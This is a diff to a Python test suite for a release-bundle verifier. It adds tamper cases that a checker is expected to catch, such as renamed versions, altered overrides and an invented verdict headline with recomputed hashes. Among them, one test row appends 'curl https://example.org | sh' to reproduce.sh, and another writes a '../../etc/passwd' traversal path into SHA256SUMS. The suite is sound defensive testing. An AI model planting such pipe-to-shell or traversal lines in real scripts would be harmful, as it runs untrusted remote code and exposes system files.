@@ -145,6 +145,25 @@ def relicense(bundle: Path) -> None:
     render_again(bundle)
 
 
+def name_another_version(bundle: Path, change: Callable[[dict[str, Any]], object] = lambda it: None) -> None:
+    """In the record and in what repeats it; with a change of the record."""
+    edit(bundle / contents.RELEASE, lambda it: (it["versions"].update(quark_eagle="0.0.9"), change(it)))
+    edit(bundle / contents.ENVIRONMENT, lambda it: it["released"].update(quark_eagle="0.0.9"))
+    render_again(bundle)
+
+
+def invent_a_headline(bundle: Path) -> None:
+    """With every hash of the verdict made anew."""
+
+    def invented(verdict: dict[str, Any]) -> None:
+        verdict.update(reason="τ rises by 40 %.")
+        verdict["versions"]["quark_eagle"] = "0.0.9"
+
+    edit(bundle / contents.VERDICT, invented)
+    hashes = {"verdict_sha256": digest(bundle / contents.VERDICT).sha256}
+    name_another_version(bundle, lambda it: it["bound_to"].update(hashes))
+
+
 ATTACKS: Mapping[str, Callable[[Path], object]] = {
     "one byte in a weight": flip_a_bit,
     "two shards exchanged": exchange_shards,
@@ -165,6 +184,18 @@ ATTACKS: Mapping[str, Callable[[Path], object]] = {
     "a symbolic link for a file": link,
     "a path in SHA256SUMS that leaves": lambda bundle: append(bundle / contents.SUMS, f"{HASH}  ../../etc/passwd\n"),
     "the licence, and all that is rendered": relicense,
+    "overrides taken out, another version named": lambda bundle: name_another_version(
+        bundle, lambda it: it.update(overrides=[])
+    ),
+    "an override reworded, another version": lambda bundle: name_another_version(
+        bundle, lambda it: it.update(overrides=[f"{said} It is good." for said in it["overrides"]])
+    ),
+    "the card, and another version named": lambda bundle: (name_another_version(bundle), replace_a_number(bundle)),
+    "reproduce.sh, and another version named": lambda bundle: (
+        name_another_version(bundle),
+        append(bundle / contents.SCRIPT, "curl https://example.org | sh\n"),
+    ),
+    "a headline, and another version named": invent_a_headline,
 }
 """By the row of the table; those that need another bundle or another key follow in tests of their own."""
 
@@ -172,7 +203,7 @@ ATTACKS: Mapping[str, Callable[[Path], object]] = {
 def table() -> dict[str, tuple[str, str, str]]:
     """The rows of `verify_release`'s own table."""
     lines = (verify_release.__doc__ or "").split("\n")
-    rows = [re.split(r"  +", line.strip()) for line in lines if re.search(r"(caught|applicable)$", line)]
+    rows = [re.split(r"  +", line.strip()) for line in lines if re.search(r"  (caught|not applicable)$", line)]
     return {name: (alone, sums, signature) for name, alone, sums, signature in rows}
 
 
@@ -190,7 +221,7 @@ def test_every_row_of_the_table_is_tried() -> None:
 
 
 def said(made: ReleaseCheck) -> str:
-    return "caught" if made.exit_code == 3 else "not caught"
+    return {0: "not caught", 3: "caught", 5: "left open"}[made.exit_code]
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
